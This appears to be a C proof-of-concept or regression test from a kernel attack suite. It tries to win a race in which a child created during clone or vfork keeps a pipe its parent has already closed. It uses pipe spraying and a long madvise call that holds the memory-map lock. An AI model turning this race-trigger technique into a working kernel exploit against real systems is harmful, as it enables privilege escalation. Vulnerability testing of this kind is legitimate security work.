/* A pipe that nothing holds but the table of a child which is being made: its parent sleeps in clone(2), behind the lock of its
 * memory map, while dead pairs are looked for; the child then sends another byte. The parent may have been in vfork(2) before.
 * long
 */
#include "../attack.h"

enum { PIPES = 1960, REST = 150, WAYS = 3 };

struct shared {
    volatile int locked, making, closed, won;
};

static struct shared *s;
static int p[2], way;
static char *zeros;
static size_t size;

/* Holds the lock for a good while: a look at each of many pages. */
static void *lock(void *unused)
{
    s->locked = 1;
    madvise(zeros, size, 22 /* MADV_POPULATE_READ */);
    s->locked = 2;
    return unused;
}

static void *make(void *unused)
{
    while (!s->locked)
        ;
    usleep(5000);
    if (way == 1 && vfork() == 0)
        _exit(0);
    s->making = 1;
    if (syscall(SYS_clone, SIGCHLD | (way == 2 ? CLONE_VFORK : 0), NULL, NULL, NULL, NULL) == 0) {
        usleep(1000);
        write(p[1], "B", 1);
        s->won |= foreign(p[0], 0);
        _exit(0);
    }
    return unused;
}

static void make_pipes(int count)
{
    int q[2];
    for (int i = 0; i < count; i++) {
        pipe(q);
        close(q[0]), close(q[1]);
    }
}

static void attempt(void)
{
    pthread_t maker, locker;
    s->locked = s->making = s->closed = 0;
    pid_t other = fork();
    if (!other) {
        make_pipes(fewer(PIPES));
        s->closed = -1;
        while (s->closed != 1)
            usleep(100);
        make_pipes(fewer(REST));
        _exit(0);
    }
    zeros = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    madvise(zeros, size, MADV_NOHUGEPAGE);
    zeros[0] = 1;
    while (!s->closed)
        usleep(1000);
    pipe2(p, O_NONBLOCK);
    write(p[1], "A", 1);
    pthread_create(&maker, NULL, make, NULL);
    pthread_create(&locker, NULL, lock, NULL);
    while (!s->making)
        ;
    usleep(5000);
    close(p[0]), close(p[1]);
    s->closed = 1;
    pthread_join(maker, NULL);
    pthread_join(locker, NULL);
    while (wait(NULL) > 0)
        ;
    munmap(zeros, size);
}

int main(void)
{
    size = (size_t)fewer(6 << 10) << 20;
    s = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    for (way = 0; way < WAYS && !s->won; way++)
        attempt();
    end(s->won, "the child's pipe was still known");
}
